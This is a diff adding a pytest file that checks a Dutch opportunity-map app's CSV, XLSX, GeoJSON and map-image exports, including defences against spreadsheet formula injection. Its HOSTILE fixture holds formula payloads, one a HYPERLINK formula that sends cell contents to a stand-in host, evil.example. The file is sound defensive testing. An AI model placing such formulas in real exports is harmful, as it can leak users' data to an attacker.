@@ -1,0 +1,369 @@
+"""Exports: what an analyst downloads equals what the page shows, opens right, and runs nothing.
+
+Round trips read each file back the way an analyst would (pandas, geopandas, LibreOffice) and
+compare it with `filter_initiatives` on the same view.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+import struct
+import subprocess
+import sys
+import zipfile
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+
+import geopandas as gpd
+import openpyxl
+import pandas as pd
+import pytest
+
+import app
+from kansenkaart import exports, runtime
+from kansenkaart.dataset import DataSet, load_dataset
+from kansenkaart.filtering import filter_initiatives
+from kansenkaart.view import View
+from tests.conftest import fixture_records, write_data_dir
+
+#: Filter combinations the round trips cover: none, theme, theme+province, all-match, ranges, search.
+QUERIES = [
+    "",
+    "theme=energy",
+    "theme=energy&province=PV22",
+    "province=PV21",
+    "theme=climate,jobs&match=all",
+    "kind=programme,initiative&status=ongoing",
+    "from=2018&to=2022",
+    "q=fryslan",
+    "theme=innovation&from=2015&lang=en",
+]
+
+#: Cells a spreadsheet would run as formulas (leading tab/CR are stripped on loading, see below).
+HOSTILE = {
+    "X-1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "X-2": "+31 20 123 4567",
+    "X-3": "-2+3",
+    "X-4": "@SUM(1+1)",
+    "X-5": "=1+1",
+}
+
+
+@pytest.fixture(scope="module")
+def client():
+    return app.server.test_client()
+
+
+@pytest.fixture(scope="module")
+def data() -> DataSet:
+    return runtime.data()
+
+
+def expected_rows(data: DataSet, query: str) -> pd.DataFrame:
+    view, problems = View.from_query(query)
+    assert not problems
+    return exports.export_frame(filter_initiatives(data.initiatives, view), data.provinces["name"])
+
+
+def download(client, path: str, query: str) -> bytes:
+    response = client.get(f"{path}?{query}")
+    assert response.status_code == 200, response.data[:300]
+    return response.data
+
+
+def assert_same_rows(got: pd.DataFrame, expected: pd.DataFrame) -> None:
+    """Same columns, ids in the same order and the same values (text as text, numbers as numbers)."""
+    assert list(got.columns) == list(exports.EXPORT_COLUMNS)
+    assert got["id"].tolist() == expected["id"].tolist()
+    for column in exports.TEXT_COLUMNS:
+        values = got[column].fillna("").astype(str).tolist()
+        assert values == expected[column].fillna("").astype(str).tolist(), column
+    for column in ("lat", "lon"):
+        assert got[column].astype(float).tolist() == pytest.approx(expected[column].tolist())
+    years = pd.to_numeric(got["start_year"], errors="coerce").astype("Int64")
+    assert years.equals(expected["start_year"].reset_index(drop=True).astype("Int64"))
+
+
+# --- round trips on the real data -----------------------------------------------------------
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_csv_round_trip(client, data, query):
+    body = download(client, "/export/initiatives.csv", query)
+    assert body.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
+    got = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert_same_rows(got, expected_rows(data, query))
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_xlsx_round_trip(client, data, query):
+    body = download(client, "/export/initiatives.xlsx", query)
+    got = pd.read_excel(io.BytesIO(body), sheet_name="initiatives", dtype=str, na_filter=False)
+    assert_same_rows(got, expected_rows(data, query))
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_geojson_round_trip(client, data, query):
+    body = download(client, "/export/initiatives.geojson", query)
+    expected = expected_rows(data, query)
+    if expected.empty:
+        assert '"features": []' in body.decode()
+        return
+    got = gpd.read_file(io.BytesIO(body))
+    assert_same_rows(pd.DataFrame(got.drop(columns="geometry")), expected)
+    assert got.geometry.x.tolist() == pytest.approx(expected["lon"].tolist())
+    assert got.geometry.y.tolist() == pytest.approx(expected["lat"].tolist())
+
+
+def test_fryslan_survives_every_format(client):
+    query = "province=PV21"
+    csv_text = download(client, "/export/initiatives.csv", query).decode("utf-8-sig")
+    assert "Fryslân" in csv_text
+    book = pd.read_excel(io.BytesIO(download(client, "/export/initiatives.xlsx", query)))
+    assert set(book["province_name"]) == {"Fryslân"}
+    assert "Fryslân" in download(client, "/export/initiatives.geojson", query).decode("utf-8")
+
+
+def test_geojson_is_rfc7946_points_at_real_coordinates(client, data):
+    response = client.get("/export/initiatives.geojson")
+    assert response.mimetype == "application/geo+json"
+    collection = response.get_json(force=True)
+    assert collection["type"] == "FeatureCollection" and "crs" not in collection
+    frame = data.initiatives.set_index("id")
+    for feature in collection["features"]:
+        row = frame.loc[feature["id"]]
+        assert feature["geometry"] == {"type": "Point", "coordinates": [row["lon"], row["lat"]]}
+        assert not set(feature["properties"]) & {"map_lat", "map_lon", "search_text"}
+
+
+def test_helper_columns_are_not_exported(client):
+    header = download(client, "/export/initiatives.csv", "").decode("utf-8-sig").splitlines()[0]
+    assert header.split(",") == list(exports.EXPORT_COLUMNS)
+    assert "theme_" not in header and "search_text" not in header and "map_lat" not in header
+
+
+# --- file names and the about sheet ---------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("query", "name"),
+    [
+        ("", "kansenkaart_2026-11-24.csv"),
+        ("theme=energy&province=PV22", "kansenkaart_2026-11-24_energy_PV22.csv"),
+        ("theme=climate,jobs&match=all", "kansenkaart_2026-11-24_climate_jobs_allthemes.csv"),
+        ("from=2018", "kansenkaart_2026-11-24_from2018.csv"),
+        (
+            "from=2018&to=2020&q=Fryslân%20water",
+            "kansenkaart_2026-11-24_2018-2020_q-fryslan-water.csv",
+        ),
+        ("q=%E2%82%AC%E2%82%AC", "kansenkaart_2026-11-24.csv"),
+    ],
+)
+def test_file_names_carry_date_and_filters(query, name):
+    view, _ = View.from_query(query)
+    assert exports.export_filename(view, "csv", datetime(2026, 11, 24, tzinfo=UTC)) == name
+
+
+def test_downloads_are_attachments_named_after_the_filters(client):
+    for extension in ("csv", "xlsx", "geojson"):
+        response = client.get(f"/export/initiatives.{extension}?theme=energy&province=PV22")
+        disposition = response.headers["Content-Disposition"]
+        assert re.fullmatch(
+            rf'attachment; filename="kansenkaart_\d{{4}}-\d\d-\d\d_energy_PV22\.{extension}"',
+            disposition,
+        )
+        assert disposition.isascii()
+
+
+def test_about_sheet_says_what_when_where_from_and_how_back(client):
+    body = download(client, "/export/initiatives.xlsx", "theme=energy&province=PV21&lang=en")
+    book = openpyxl.load_workbook(io.BytesIO(body))
+    assert book.sheetnames == ["initiatives", "About this export"]
+    about = {row[0]: row[1] for row in book["About this export"].iter_rows(values_only=True)}
+    assert about["Filters"] == "Themes: energy; Province: Fryslân"
+    assert about["Number of rows"] == book["initiatives"].max_row - 1
+    assert datetime.fromisoformat(about["Exported (UTC)"]).tzinfo is not None
+    assert (
+        "CC BY 4.0" in about["Province boundaries"] and "Kadaster" in about["Province boundaries"]
+    )
+    assert "source_url" in about["Initiatives"]
+    assert about["Open this view"] == "http://localhost/?theme=energy&province=PV21&lang=en"
+
+
+# --- formula injection ----------------------------------------------------------------------
+
+
+@pytest.fixture
+def hostile_data(tmp_path, monkeypatch) -> Iterator[DataSet]:
+    """The app serving a synthetic data folder whose texts try to become formulas."""
+    records = fixture_records()
+    for record, (id_, text) in zip(records, HOSTILE.items(), strict=False):
+        record["id"], record["name"], record["organisations"] = id_, text, text
+    records[0]["summary"] = "bell \x07 inside a summary"  # XML cannot hold it; must not crash
+    dataset = load_dataset(write_data_dir(tmp_path / "data", records))
+    monkeypatch.setattr(runtime, "data", lambda: dataset)
+    yield dataset
+
+
+def test_neutralise_prefixes_formula_starts_only():
+    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert exports.neutralise(text) == "'" + text
+    for text in ("Fryslân", "1-2", "a=b", "", "'quoted"):
+        assert exports.neutralise(text) == text
+
+
+def test_csv_neutralises_formula_cells(client, hostile_data):
+    body = download(client, "/export/initiatives.csv", "")
+    got = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    for id_, text in HOSTILE.items():
+        row = got.set_index("id").loc[id_]
+        assert row["name"] == "'" + text and row["organisations"] == "'" + text
+    assert got["lat"].astype(float).gt(0).all()  # numbers stay numbers
+
+
+def test_csv_neutralises_tab_and_carriage_return():
+    frame = pd.DataFrame({column: ["x", "y"] for column in exports.EXPORT_COLUMNS})
+    frame["lat"], frame["lon"], frame["start_year"] = 52.0, 5.0, pd.array([None, 2020], "Int64")
+    frame["name"] = ["\tcmd", "\r=1+1"]
+    got = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig", dtype=str)
+    assert got["name"].tolist() == ["'\tcmd", "'\r=1+1"]
+
+
+def test_xlsx_stores_formula_like_text_as_text(client, hostile_data):
+    body = download(client, "/export/initiatives.xlsx", "")
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+    sheet = openpyxl.load_workbook(io.BytesIO(body))["initiatives"]
+    header = [c.value for c in sheet[1]]
+    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for id_, text in HOSTILE.items():
+        cell = by_id[id_][header.index("name")]
+        assert cell.data_type == "s" and cell.value == "'" + text
+    assert isinstance(by_id["X-1"][header.index("lat")].value, float)
+
+
+def test_xlsx_drops_characters_xml_cannot_hold(client, hostile_data):
+    body = download(client, "/export/initiatives.xlsx", "")
+    summaries = pd.read_excel(io.BytesIO(body))["summary"].tolist()
+    assert "bell  inside a summary" in summaries
+
+
+# --- a real spreadsheet program -------------------------------------------------------------
+
+SOFFICE = shutil.which("soffice")
+
+
+def libreoffice_csv(xlsx: bytes, folder: Path) -> pd.DataFrame:
+    """The first sheet as LibreOffice Calc reads it, saved as UTF-8 CSV."""
+    source = folder / "export.xlsx"
+    source.write_bytes(xlsx)
+    profile = (folder / "profile").as_uri()
+    command = [
+        SOFFICE,
+        f"-env:UserInstallation={profile}",
+        "--headless",
+        "--convert-to",
+        "csv:Text - txt - csv (StarCalc):44,34,76,1",
+        "--outdir",
+        str(folder),
+        str(source),
+    ]
+    subprocess.run(command, check=True, capture_output=True, timeout=180)
+    return pd.read_csv(folder / "export.csv", dtype=str, keep_default_na=False)
+
+
+@pytest.mark.skipif(
+    SOFFICE is None,
+    reason="LibreOffice (soffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc-nogui",
+)
+def test_libreoffice_reads_the_xlsx_as_exported(client, data, tmp_path):
+    query = "theme=energy,climate"
+    got = libreoffice_csv(download(client, "/export/initiatives.xlsx", query), tmp_path)
+    assert_same_rows(got, expected_rows(data, query))
+
+
+@pytest.mark.skipif(
+    SOFFICE is None,
+    reason="LibreOffice (soffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc-nogui",
+)
+def test_libreoffice_runs_no_formula(client, hostile_data, tmp_path):
+    got = libreoffice_csv(download(client, "/export/initiatives.xlsx", ""), tmp_path)
+    names = got.set_index("id")["name"]
+    for id_, text in HOSTILE.items():
+        assert names[id_] == "'" + text  # shown as typed, never computed ("=1+1" is not "2")
+
+
+# --- map images -----------------------------------------------------------------------------
+
+
+def png_size(body: bytes) -> tuple[int, int]:
+    assert body[:8] == b"\x89PNG\r\n\x1a\n"
+    return struct.unpack(">II", body[16:24])
+
+
+def test_png_map(client):
+    response = client.get("/export/map.png?theme=energy&province=PV22")
+    assert response.status_code == 200 and response.mimetype == "image/png"
+    width, height = png_size(response.data)
+    assert (width, height) == (
+        exports.IMAGE_SIZE["width"] * exports.IMAGE_SCALE["png"],
+        exports.IMAGE_SIZE["height"] * exports.IMAGE_SCALE["png"],
+    )
+    assert len(response.data) > 50_000  # a drawn map, not a blank sheet
+    assert response.headers["Content-Disposition"].endswith('_energy_PV22.png"')
+
+
+def test_svg_map_has_title_and_credit(client):
+    response = client.get("/export/map.svg?theme=energy&lang=en&q=%3Cb%3Ebold%3C%2Fb%3E")
+    assert response.status_code == 200 and response.mimetype == "image/svg+xml"
+    svg = response.data.decode("utf-8")
+    assert "<svg" in svg
+    assert "Circular Economy Opportunity Map" in svg and "Themes: energy" in svg
+    assert "CC BY 4.0" in svg
+    # The search term stays text, not markup: its brackets are escaped, "bold" is not bold.
+    assert re.search(r"(&lt;|&#60;)b(&gt;|&#62;)bold", svg)
+    assert 'bold">bold' not in svg
+
+
+def test_images_need_no_network():
+    """Everything Chromium loads is a local file: plotly.js, the base map, no MathJax."""
+    from kaleido import PageGenerator
+
+    page = PageGenerator(plotly=exports.plotly_js_url(), mathjax=False).generate_index()
+    assert not re.search(r"(src|href)=[\"']?https?:", page)
+    assert exports.TOPOJSON_URL.startswith("file://")
+    topojson = Path(exports.TOPOJSON_URL.removeprefix("file://"))
+    assert (topojson / "europe_110m.json").is_file()
+
+
+UNSHARE = shutil.which("unshare")
+
+
+def _can_unshare_network() -> bool:
+    if UNSHARE is None:
+        return False
+    return subprocess.run([UNSHARE, "-n", "true"], capture_output=True).returncode == 0
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(
+    not _can_unshare_network(), reason="needs `unshare -n` (root) to cut the network"
+)
+def test_png_renders_with_the_network_cut(tmp_path):
+    script = (
+        "import app; r = app.server.test_client().get('/export/map.png?theme=energy');"
+        "assert r.status_code == 200, r.data[:200]; print(len(r.data))"
+    )
+    result = subprocess.run(
+        [UNSHARE, "-n", sys.executable, "-c", script],
+        cwd=Path(app.__file__).parent,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert result.returncode == 0, result.stderr[-2000:]
+    assert int(result.stdout.split()[-1]) > 50_000
